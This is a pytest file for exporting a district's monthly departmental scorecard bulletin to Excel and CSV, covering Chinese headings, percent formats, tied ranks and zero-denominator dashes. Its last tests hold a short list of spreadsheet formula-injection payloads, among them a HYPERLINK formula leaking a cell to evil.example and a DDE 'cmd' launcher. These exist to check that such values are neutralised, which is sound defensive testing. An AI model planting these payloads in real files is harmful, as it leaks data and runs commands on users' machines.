"""The monthly bulletin's files, opened as Excel and a spreadsheet would open them."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from layouts import bulletin
from tests.layouts.test_scorecards import ROWS, rate, unit

TITLE = "望潮区 职能部门考核 2026年11月"
HEADERS = ["排名", "职能部门", "综合得分", "派遣数", "响应率", "应结案数", "结案率", "按期结案率",
           "解决率", "满意率", "返工率", "延期率", "平均处置时长（小时）"]


def sheet_of(rows: list[dict], unit_kind: str = "department"):
    data = bulletin.xlsx_bytes(rows, unit_kind, TITLE, "zh")
    return load_workbook(io.BytesIO(data)).active


def test_the_title_names_district_scope_and_period():
    assert bulletin.title("望潮区", "department", "2026年11月", "zh") == TITLE
    assert bulletin.title("望潮区", "street", "2026年11月", "zh") == \
        "望潮区 街道（镇）考核 2026年11月"


def test_the_workbook_opens_with_the_title_and_the_chinese_headings():
    sheet = sheet_of(ROWS)
    assert sheet["A1"].value == TITLE
    assert "A1:M1" in {str(merged) for merged in sheet.merged_cells.ranges}
    assert [cell.value for cell in sheet[2]] == HEADERS
    assert sheet.title == "职能部门考核"


def test_rates_are_real_numbers_formatted_as_percent_with_one_decimal():
    sheet = sheet_of(ROWS)
    first = {heading: cell for heading, cell in zip(HEADERS, sheet[3], strict=True)}
    assert first["响应率"].value == pytest.approx(37 / 40)
    assert first["响应率"].number_format == "0.0%"
    assert first["按期结案率"].value == pytest.approx(2 / 3)
    assert first["综合得分"].value == pytest.approx(91.04)
    assert first["综合得分"].number_format == "0.0"
    assert first["平均处置时长（小时）"].number_format == "0.0"
    assert first["派遣数"].value == 40
    assert first["排名"].value == 1
    assert first["职能部门"].value == "区城市管理局"


def test_a_rate_with_zero_denominator_is_a_dash_in_the_workbook():
    sheet = sheet_of(ROWS)
    last = {heading: cell.value for heading, cell in zip(HEADERS, sheet[6], strict=True)}
    assert last["职能部门"] == "区民政局"
    assert (last["响应率"], last["满意率"], last["综合得分"], last["排名"]) == ("—",) * 4
    assert last["延期率"] == 0  # 0 of 40 is a real 0 %


def test_units_are_listed_in_rank_order_with_tied_ranks_shared():
    shuffled = [ROWS[3], ROWS[2], ROWS[0], ROWS[1]]
    sheet = sheet_of(shuffled)
    assert [(row[0].value, row[1].value) for row in sheet.iter_rows(min_row=3)] == [
        (1, "区城市管理局"), (2, "公安分局"), (2, "区水利局"), ("—", "区民政局")]


def test_the_street_workbook_has_the_local_resolution_rate():
    sheet = sheet_of([unit("330100001", "望江街道", 1, 80.0, local_rate=rate(3, 4))], "street")
    headings = [cell.value for cell in sheet[2]]
    assert headings[1] == "街道（镇）"
    column = headings.index("就地化解率")
    assert sheet.cell(3, column + 1).value == pytest.approx(0.75)
    assert sheet.cell(3, column + 1).number_format == "0.0%"


def test_the_csv_is_utf8_with_a_byte_order_mark_and_the_screens_text():
    data = bulletin.csv_bytes(ROWS, "department", TITLE, "zh")
    assert data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[0] == [TITLE]
    assert lines[1] == HEADERS
    assert lines[2] == ["1", "区城市管理局", "91.0", "40", "92.5%", "30", "90.0%", "66.7%",
                        "90.0%", "—", "3.7%", "0.0%", "7.2"]
    assert lines[5][:3] == ["—", "区民政局", "—"]


def test_english_files_have_english_headings():
    data = bulletin.csv_bytes(ROWS, "street", "Wangchao Streets 2026-11", "en")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[1][:3] == ["Rank", "Street or town", "Score"]


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1)"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_looks_like_a_formula_stays_text_in_the_workbook(name):
    sheet = load_workbook(io.BytesIO(bulletin.xlsx_bytes(
        [unit("D09", name, 1, 50.0)], "department", name, "zh"))).active
    for cell in (sheet["A1"], sheet["B3"]):
        assert (cell.value, cell.data_type) == (name, "s")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_looks_like_a_formula_is_quoted_in_the_csv(name):
    data = bulletin.csv_bytes([unit("D09", name, 1, 50.0)], "department", name, "zh")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[0] == ["'" + name]
    assert lines[2][:3] == ["1", "'" + name, "50.0"]
